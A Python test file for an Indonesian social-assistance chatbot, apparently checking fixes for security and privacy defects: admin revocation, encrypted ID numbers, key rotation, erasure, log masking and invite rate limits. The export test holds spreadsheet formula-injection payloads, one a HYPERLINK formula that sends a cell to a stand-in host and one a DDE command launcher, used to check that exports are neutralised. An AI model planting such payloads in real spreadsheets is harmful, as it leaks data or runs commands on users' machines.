"""Issue "Trust defects": each test here failed on the code before its fix; the item number in
its name is the issue's."""

from __future__ import annotations

import os
from datetime import date, timedelta
from pathlib import Path

from sqlalchemy import select

from bot.app import build
from bot.config import Settings
from bot.db import schema as t
from handlers.core.messages import Msg
from handlers.core.records import Role
from tests.conftest import sqlite_only
from tests.harness import Person as Chat
from tests.helpers import name_admin, nik_for, set_admins


async def _audit_actions(siaga, subject: int) -> list[str]:  # type: ignore[no-untyped-def]
    a = t.audit_log
    async with siaga.store() as store:
        rows = await store.conn.execute(
            select(a.c.action).where(a.c.subject == subject).order_by(a.c.id)
        )
        return [r.action for r in rows]


async def test_item1_an_admin_removed_from_the_setting_loses_the_rights(tmp_path: Path) -> None:
    data = tmp_path / "data"
    siaga = await build(Settings(data_dir=data, admins="console:dinas"))
    boss = Chat(siaga, "dinas")
    await boss.say("/statistik")
    assert "hanya untuk admin" not in boss.text
    await siaga.close()

    # the Dinas takes the person out of SIAGA_ADMINS and restarts
    siaga = await build(Settings(data_dir=data, admins=""))
    try:
        boss = Chat(siaga, "dinas")
        await boss.say("/statistik")
        assert "hanya untuk admin" in boss.text  # the citizen's reply
        async with siaga.store() as store:
            rows = await store.conn.execute(select(t.people.c.id, t.people.c.role))
            (pid, role), *_ = rows.all()
        assert role == "citizen"
        assert await _audit_actions(siaga, pid) == ["admin.revoked"]
    finally:
        await siaga.close()


async def test_item1_a_running_service_follows_the_setting_on_every_update(siaga) -> None:  # type: ignore[no-untyped-def]
    name_admin(siaga, "console", "dinas")
    boss = Chat(siaga, "dinas")
    await boss.say("/statistik")
    assert "hanya untuk admin" not in boss.text
    set_admins(siaga, frozenset())
    await boss.say("/statistik")
    assert "hanya untuk admin" in boss.text


async def test_item1_a_removed_admin_who_joined_a_kelurahan_stays_its_reviewer(siaga) -> None:  # type: ignore[no-untyped-def]

    from tests.test_review import KELUN, make

    boss = await make(siaga, "dinas", Role.ADMIN, KELUN)
    set_admins(siaga, frozenset())
    chat = Chat(siaga, "dinas")
    await chat.say("/kuota 5")  # an admin's command: no longer theirs
    assert "hanya untuk admin" in chat.text
    async with siaga.store() as store:
        p = await store.person_by_id(boss.id)
    assert p is not None and p.role.value == "lurah" and p.kelurahan_code == KELUN


# --- item 2: exports carry no live formula, and only their owner reads them ----------------

EVIL = '=HYPERLINK("http://x/?d="&C2,"klik")'


async def _approved(siaga, name: str, occupation_text: str, serial: int = 1) -> None:  # type: ignore[no-untyped-def]
    from domain.nomination import NominationStatus

    async with siaga.store() as store:
        now = siaga.clock()
        n = await store.add_nomination(
            ref=f"PJK-T{serial:04d}", person_id=None, filed_by=None,
            kelurahan_code="35.77.01.1009", name=name, nik=nik_for(40, serial=serial),
            nik_masked="3577 01•• •••• 0001", answers={"occupation_text": occupation_text,
            "phone": "+6281234567890"}, verdict="likely_eligible", reasons=[], priority=0, now=now,
        )  # fmt: skip
        assert await store.move_nomination(n, NominationStatus.APPROVED, now, decided_at=now)
        await store.commit()


async def test_item2_exports_write_typed_text_as_text_and_are_private(
    siaga, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    import csv

    from openpyxl import load_workbook

    from bot.export import write_csv, write_xlsx
    from handlers import nominations

    async def export(path: Path, write) -> int:  # type: ignore[no-untyped-def]
        async with siaga.unit() as ctx:
            return await nominations.export_approved(
                ctx, None, path.suffix[1:], lambda rows: write(rows, path), who="uji"
            )

    await _approved(siaga, "@SUM(1+1)*cmd|' /C calc'!A0", EVIL)
    await _approved(siaga, "-2+3", "\tnarik", serial=2)
    xlsx, csv_path = tmp_path / "out.xlsx", tmp_path / "out.csv"
    csv_path.write_text("old")
    csv_path.chmod(0o644)  # an earlier export left readable: the new one is not
    assert await export(xlsx, write_xlsx) == 2
    await export(csv_path, write_csv)
    assert xlsx.stat().st_mode & 0o777 == 0o600
    assert csv_path.stat().st_mode & 0o777 == 0o600
    ws = load_workbook(xlsx).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
    values = {c.value for c in cells}
    assert EVIL in values and "-2+3" in values  # kept as the person typed it
    nik = next(c for c in cells if c.column_letter == "C")
    assert nik.data_type == "s" and len(str(nik.value)) == 16
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert rows[0]["pekerjaan"] == "'" + EVIL and rows[0]["nama"].startswith("'@")
    assert rows[1]["nama"] == "'-2+3" and rows[1]["pekerjaan"] == "'\tnarik"
    assert rows[0]["no_hp"] == "'+6281234567890"
    assert not [p.name for p in os.scandir(tmp_path) if p.name.endswith(".part")]


# --- item 3: no clear NIK at rest, anywhere ------------------------------------------------


async def _every_value(siaga) -> str:  # type: ignore[no-untyped-def]
    """Every column of every table, read back through SQL, as one text."""
    from sqlalchemy import text

    out: list[str] = []
    async with siaga.store() as store:
        for table in t.metadata.sorted_tables:
            rows = await store.conn.execute(text(f"SELECT * FROM {table.name}"))
            out.extend(repr(tuple(r)) for r in rows)
    return "\n".join(out)


def _sqlite_bytes(data: Path) -> bytes:
    return b"".join(p.read_bytes() for p in data.glob("siaga.db*"))


async def test_item3_a_full_flow_leaves_no_clear_nik_in_any_table_or_file(siaga) -> None:  # type: ignore[no-untyped-def]
    nik = nik_for(41, female=True)
    warga = Chat(siaga, "777001", channel="telegram")  # a kept channel: replies go to the outbox
    for line in ["1", "setuju", "Sri Rahayu", nik]:
        await warga.say(line)
    grouped = f"{nik[:4]} {nik[4:6]} {nik[6:12]} {nik[12:]}"
    assert grouped in warga.text  # read back to the person in clear
    for line in ["1", "1", "1", "kelun", "ojol", "1", "ya", "ya", "lewati", "1", "1"]:
        await warga.say(line)
    assert "Nomor usulan: PJK-" in warga.text
    stored = await _every_value(siaga)
    for form in (nik, grouped, nik[6:12]):
        assert form not in stored
    assert "3577 01•• •••• " + nik[12:] in stored  # the masked form is what is kept
    data = siaga.settings.data_dir
    if not siaga.settings.database_url:  # the SQLite file and its WAL, byte for byte
        raw = _sqlite_bytes(data)
        assert raw and nik.encode() not in raw and grouped.encode() not in raw
        for f in data.glob("siaga.db*"):
            assert f.stat().st_mode & 0o777 == 0o600, f


# --- item 4: a lost key is never silently replaced; rotation --------------------------------


async def _file_one(siaga, who: str, serial: int = 1) -> str:  # type: ignore[no-untyped-def]
    from tests.test_review import file

    return await file(siaga, who, "kelun", serial=serial)


async def test_item4_a_missing_key_over_sealed_niks_stops_the_start(tmp_path: Path) -> None:
    import pytest

    from bot.db.keys import KeyProblem

    data = tmp_path / "data"
    siaga = await build(Settings(data_dir=data))
    ref = await _file_one(siaga, "warga-1")
    await siaga.close()
    key = data / "siaga.key"
    saved = key.read_bytes()
    key.unlink()  # lost
    from bot import national_days

    national_days._known.clear()  # as in a fresh command: the holidays read by a child
    with pytest.raises(KeyProblem, match="tidak ditemukan"):
        await build(Settings(data_dir=data))
    # nothing of the failed start goes on behind it: the holidays' child process is reaped
    # (CI: left running, its pipes printed a traceback when the command's loop closed)
    import asyncio

    assert [t for t in asyncio.all_tasks() if t is not asyncio.current_task()] == []
    assert not key.exists()  # no new key was made over the old data
    from bot.crypto import new_key_string

    with pytest.raises(KeyProblem, match="bukan kunci"):  # someone else's key
        await build(Settings(data_dir=data, nik_key=new_key_string()))  # type: ignore[arg-type]
    key.write_bytes(saved)
    key.chmod(0o600)
    siaga = await build(Settings(data_dir=data))  # the right key again: all works
    try:
        dup = Chat(siaga, "warga-2")  # the same NIK from another account is still caught
        for line in ["1", "setuju", "Warga Uji", nik_for(40)]:
            await dup.say(line)
        await dup.say("1")
        assert "tidak bisa diusulkan lagi" in dup.text and ref not in dup.text
    finally:
        await siaga.close()


def test_item4_doctor_fails_and_the_chat_refuses_without_the_key(tmp_path: Path) -> None:
    import subprocess
    import sys

    from tests.helpers import chat, chat_env

    chat(tmp_path, "a", "1", "setuju", "Ani", nik_for(30), "1")
    (tmp_path / "siaga.key").unlink()
    env = chat_env(tmp_path)
    r = subprocess.run([sys.executable, "-m", "bot", "doctor"], capture_output=True, text=True,
                       env=env, cwd=tmp_path, timeout=120)  # fmt: skip
    assert r.returncode == 1, r.stdout
    assert "tidak ditemukan" in r.stdout
    r = subprocess.run([sys.executable, "-m", "bot", "chat", "--jsonl", "--user", "b"],
                       input="halo\n", capture_output=True, text=True, env=env, cwd=tmp_path,
                       timeout=120)  # fmt: skip
    assert r.returncode == 3 and "Traceback" not in r.stderr
    assert "Siaga tidak dijalankan" in r.stderr
    assert not (tmp_path / "siaga.key").exists()


async def test_item4_rotation_reseals_everything_in_one_go(tmp_path: Path) -> None:
    from bot.db.keys import rotate

    data = tmp_path / "data"
    siaga = await build(Settings(data_dir=data))
    ref = await _file_one(siaga, "warga-1")
    half = Chat(siaga, "warga-2", channel="telegram")  # a NIK in a conversation and the outbox
    for line in ["1", "setuju", "Budi", nik_for(33, serial=7)]:
        await half.say(line)
    # a claim report sealed a NIK too, and another report is half written (issue 20)
    for who, stop in (("pelapor-1", False), ("pelapor-2", True)):
        reporter = Chat(siaga, who)
        await reporter.say("/kabar")
        await reporter.press("🕊 Meninggal dunia")
        await reporter.press("Tetangga / lainnya")
        await reporter.say(nik_for(50, serial=9))
        if not stop:
            await reporter.say("Warga Lain")
            await reporter.say("kemarin")
            assert "kasus #1" in reporter.text
    async with siaga.store() as store:  # a registry list: blind indexes under the old key
        await store.replace_registry("dtks", date(2026, 11, 1),
                                     [(store.vault.index(nik_for(50, serial=9)), 3, None)],
                                     siaga.clock())  # fmt: skip
        await store.commit()
    old_key = (data / "siaga.key").read_text()
    before = await _every_value(siaga)
    fresh, counts = await rotate(siaga.settings, siaga.engine, siaga.clock())
    await siaga.close()
    assert counts["nominations"] == 1 and counts["conversations"] >= 2
    assert counts["claims"] == 1 and counts["registry"] == 1
    assert (data / "siaga.key").read_text() != old_key and fresh in (data / "siaga.key").read_text()
    assert (data / "siaga.key").stat().st_mode & 0o777 == 0o600
    siaga = await build(Settings(data_dir=data))
    try:
        after = await _every_value(siaga)
        assert before != after
        async with siaga.store() as store:
            n = await store.nomination_by_ref(ref)
            assert n is not None
            row = (await store.conn.execute(
                select(t.nominations.c.nik_enc).where(t.nominations.c.id == n.id))).first()  # fmt: skip
            assert store.open_nik(row.nik_enc) == nik_for(40)
            assert await store.active_nomination_for_nik(nik_for(40)) is not None  # index too
            claim = await store.claim(1)
            assert claim is not None and claim.nik_enc is not None
            assert store.open_nik(claim.nik_enc) == nik_for(50, serial=9)
            assert await store.registry_lists() == {}  # to be imported again
        half = Chat(siaga, "warga-2", channel="telegram")
        await half.say("1")  # the conversation goes on under the new key
        assert "umur" in half.text.lower()
        reporter = Chat(siaga, "pelapor-2")
        await reporter.say("Warga Lain")
        await reporter.say("kemarin")  # the half-written report's NIK opens with the new key
        assert "kasus #2" in reporter.text
    finally:
        await siaga.close()


async def test_item4_a_rotation_cut_short_keeps_the_old_key(tmp_path: Path) -> None:
    import json

    from bot.crypto import new_key_string

    data = tmp_path / "data"
    siaga = await build(Settings(data_dir=data))
    await _file_one(siaga, "warga-1")
    await siaga.close()
    key = data / "siaga.key"
    old = json.loads(key.read_text())["nik_key"]
    # as a rotation killed before its transaction committed leaves the key file
    key.write_text(json.dumps({"nik_key": old, "next_key": new_key_string()}))
    siaga = await build(Settings(data_dir=data))
    await siaga.close()
    assert json.loads(key.read_text()) == {"nik_key": old}


# --- item 5: erasure that erases ------------------------------------------------------------


async def test_item5_erasing_an_approved_person_returns_the_place_and_leaves_no_trace(
    siaga,
) -> None:  # type: ignore[no-untyped-def]
    from handlers.nominations import review
    from tests.helpers import Puzzled
    from tests.test_review import KELUN, act, make, nomination, set_quota

    await set_quota(siaga, 5)
    await make(siaga, "777900", Role.LURAH, KELUN)  # console id; the lurah's notices are kept
    lurah = await make(siaga, "lk-tg", Role.LURAH, KELUN)
    async with siaga.store() as store:  # … on Telegram, where the outbox holds them
        await store.conn.execute(t.people.update().where(t.people.c.id == lurah.id)
                                 .values(channel="telegram"))  # fmt: skip
        await store.commit()
    name, phone, nik = "Sulastri Wulandari", "081298765432", nik_for(44, female=True, serial=9)
    warga = Chat(siaga, "777002", channel="telegram")
    for line in ["1", "setuju", name, nik, "1", "1", "1", "kelun", "ojol", "1", "ya", "ya",
                 phone, "1", "1"]:  # fmt: skip
        await warga.say(line)
    ref = warga.text.split("Nomor usulan: ")[1].split()[0]
    boss = await make(siaga, "dinas", Role.ADMIN)
    assert (await act(siaga, review.approve, boss, await nomination(siaga, ref))).outcome is (
        review.Outcome.DONE
    )
    async with siaga.store() as store:
        ctx = siaga.context(store)
        assert await store.quota(review.period_of(ctx)) == (5, 1)
    # the marker is read as nothing known, whatever the model makes of a made-up word
    siaga.conversations.reader = Puzzled(siaga.conversations.reader, "qqzzkeep")
    await warga.say(f"Sulastri qqzzkeep wobble {phone}")  # not understood: kept (issue 27)
    async with siaga.store() as store:
        (kept,) = (await store.conn.execute(select(t.unclear_messages.c.text))).scalars().all()
    assert kept == "{name} qqzzkeep wobble {phone}"  # masked: her name and phone are not kept
    before = await _every_value(siaga)
    assert name in before  # the lurah's "new nomination from …" notice names her
    assert "qqzzkeep" in before

    await warga.say("/hapus")
    await warga.press("Ya, hapus data saya")
    assert "dihapus" in warga.text

    async with siaga.store() as store:
        ctx = siaga.context(store)
        assert await store.quota(review.period_of(ctx)) == (5, 0)  # the place is back
        n = await store.nomination_by_ref(ref)
        assert n is not None and n.status.value == "withdrawn" and n.name is None
        assert n.nik_masked == "3577 01•• •••• " + nik[12:] and n.answers == {}
        notices = (await store.conn.execute(
            select(t.outbox.c.payload).where(t.outbox.c.person_id == lurah.id))).all()  # fmt: skip
    texts = [siaga.catalogue.render(Msg.from_json(p.payload[0]["p"][0]), "id") for p in notices]
    assert any(ref in x and "sisa kuota kota 5 tempat" in x for x in texts), texts
    after = await _every_value(siaga)
    for trace in (name, "Sulastri", phone, phone[1:], nik, nik[6:12], "qqzzkeep"):
        assert trace not in after, trace
    if not siaga.settings.database_url:
        raw = _sqlite_bytes(siaga.settings.data_dir)
        for trace in (name, "Sulastri", phone, phone[1:], nik, "qqzzkeep"):
            assert trace.encode() not in raw, trace


async def test_item5_ids_are_not_reused_after_an_erasure(siaga) -> None:  # type: ignore[no-untyped-def]
    first = Chat(siaga, "hapus-1")
    await first.say("halo")
    async with siaga.store() as store:
        (gone,) = (await store.conn.execute(select(t.people.c.id))).scalars().all()
        await store.audit(actor=gone, action="uji", now=siaga.clock(), subject=gone)
        await store.commit()
    await first.say("/hapus")
    await first.press("Ya, hapus data saya")
    await Chat(siaga, "baru").say("halo")
    async with siaga.store() as store:
        ids = (await store.conn.execute(select(t.people.c.id))).scalars().all()
    assert ids and gone not in ids  # the newcomer does not inherit the audit rows


@sqlite_only("the SQLite rebuild of migration 0007")
def test_item5_the_migration_keeps_every_row_and_reference(tmp_path: Path) -> None:
    import asyncio
    import sqlite3

    from alembic import command

    from bot.db.engine import make_engine
    from bot.db.migrate import alembic_config, upgrade

    db = tmp_path / "old.db"
    url = f"sqlite+aiosqlite:///{db}"

    async def to_0006() -> None:
        engine = make_engine(url)
        async with engine.begin() as conn:
            await conn.run_sync(lambda c: command.upgrade(alembic_config(c), "0006"))
        await engine.dispose()

    asyncio.run(to_0006())
    con = sqlite3.connect(db)
    con.executescript("""
        INSERT INTO people (id, channel, external_id, role, locale, blocked, created_at)
            VALUES (1, 'console', 'a', 'citizen', 'id', 0, '2026-01-01'),
                   (2, 'console', 'b', 'citizen', 'id', 0, '2026-01-01');
        INSERT INTO conversations VALUES (1, 'idle', '', '{}', 1, 0, '2026-01-01');
        INSERT INTO consents (person_id, kind, notice_version, granted, at)
            VALUES (1, 'data', 'v1', 1, '2026-01-01');
        INSERT INTO outbox (person_id, channel, external_id, kind, payload, status, attempts,
            next_attempt_at, created_at, template) VALUES (2, 'console', 'b', 'notice', '[]',
            'pending', 0, '2026-01-01', '2026-01-01', 0);
    """)
    con.commit()
    con.close()

    async def migrate() -> None:
        engine = make_engine(url)
        await upgrade(engine)
        await engine.dispose()

    asyncio.run(migrate())
    con = sqlite3.connect(db)
    assert con.execute("SELECT count(*) FROM conversations").fetchone() == (1,)
    assert con.execute("SELECT count(*) FROM consents").fetchone() == (1,)
    assert con.execute("SELECT count(*) FROM outbox").fetchone() == (1,)
    assert "AUTOINCREMENT" in con.execute(
        "SELECT sql FROM sqlite_master WHERE name = 'people'").fetchone()[0]  # fmt: skip
    con.execute("DELETE FROM outbox")
    con.execute("DELETE FROM people WHERE id = 2")
    con.execute("INSERT INTO people (channel, external_id, role, locale, blocked, created_at) "
                "VALUES ('console', 'c', 'citizen', 'id', 0, '2026-01-02')")  # fmt: skip
    assert con.execute("SELECT max(id) FROM people").fetchone() == (3,)
    con.close()


# --- item 7: odd input gets a clear reply, never a crash ------------------------------------


async def test_item7_odd_digits_pick_buttons_and_odd_ages_are_refused(siaga) -> None:  # type: ignore[no-untyped-def]
    p = Chat(siaga, "digits")
    await p.say("halo")
    await p.say("②")  # circled two at the main menu: the second button, status
    assert "Tulis nomor usulan" in p.text
    await p.say("/menu")
    await p.say("¹")  # superscript one: check eligibility
    assert "Pemberitahuan Privasi" in p.text
    for line in ["setuju", "Ani Lestari", nik_for(41), "１"]:  # fullwidth one: the NIK is right
        await p.say(line)
    assert "umurnya" in p.text
    await p.say("2")  # the age from the NIK is not right
    assert "Berapa umur" in p.text
    for odd in ("1e9", "0x20", "1.5", "²⁰⁰⁰", "umur 4 atau 5"):
        await p.say(odd)
        assert "Mohon tulis umur dengan angka" in p.text, odd
    await p.say("umur saya ４３ th")
    assert "Mohon tulis umur" not in p.text and "43" in p.text


async def test_item7_an_admin_at_the_queue_or_on_behalf_is_asked_which_kelurahan(siaga) -> None:  # type: ignore[no-untyped-def]
    name_admin(siaga, "console", "dinas")
    boss = Chat(siaga, "dinas")
    await boss.say("/antrian")
    assert "Sebutkan kelurahannya" in boss.text and "/antrian Kelun" in boss.text
    await boss.say("/usulkan")
    assert "/usulkan Kelun" in boss.text
    await boss.say("/antrian kelun")
    assert "Kelun" in boss.text and "Sebutkan" not in boss.text
    await boss.say("/usulkan kelun")
    assert "Sebutkan" not in boss.text and "kesalahan" not in boss.text.lower()


def test_item7_a_crash_log_carries_no_user_text_phone_or_nik() -> None:
    import io
    import logging

    from bot.logs import SafeFormatter, install_masking

    install_masking()
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(SafeFormatter("%(levelname)s %(message)s"))
    log = logging.getLogger("siaga.test-trust")
    log.addHandler(handler)
    typed = "nomer saya 0812-3456-7890 nik 3577014708850001"
    try:
        try:
            int(typed)
        except ValueError as exc:
            raise RuntimeError(f"could not read {typed!r}") from exc
    except RuntimeError:
        log.exception("update from whatsapp failed for +6281234567890; rolled back")
    finally:
        log.removeHandler(handler)
    text = out.getvalue()
    assert "builtins.ValueError" in text and "builtins.RuntimeError" in text  # where, not what
    for leaked in ("0812-3456-7890", "81234567890", "3577014708850001", "nomer saya"):
        assert leaked not in text, leaked


# --- item 10: invite codes kept out of the audit log; guesses limited -----------------------


async def test_item10_invite_guesses_are_limited_and_codes_never_logged(siaga) -> None:  # type: ignore[no-untyped-def]
    from handlers.officers import admin as admin_use

    async with siaga.store() as store:
        invite = await admin_use.create_invite(siaga.context(store), None, "Kelun")
        await store.commit()
    code = siaga.catalogue.render(invite.parts[0], "id").split(": ")[1].split()[0]
    guesser = Chat(siaga, "penebak")
    for i in range(5):
        await guesser.say(f"/lurah ZZZZZZ{i:02d}")
        assert "tidak berlaku" in guesser.text
    await guesser.say(f"/lurah {code}")  # even the right code, after five wrong ones
    assert "Coba lagi nanti" in guesser.text
    later = siaga.clock() + timedelta(hours=1, minutes=1)
    siaga.clock = lambda: later
    spaced = f"{code[:4].lower()} {code[4:].lower()}"  # as read out over the phone
    await guesser.say(f"/lurah {spaced}")
    assert "Selamat bergabung" in guesser.text
    a = t.audit_log
    async with siaga.store() as store:
        rows = (await store.conn.execute(select(a.c.action, a.c.detail))).all()
    assert [r.action for r in rows].count("refused.invite") == 5
    assert "refused.invite_rate" in [r.action for r in rows]
    assert all(code not in (r.detail or "") and "ZZZZZZ" not in (r.detail or "") for r in rows)
    assert any(r.detail == "…" + code[-3:] for r in rows if r.action == "reviewer.joined")
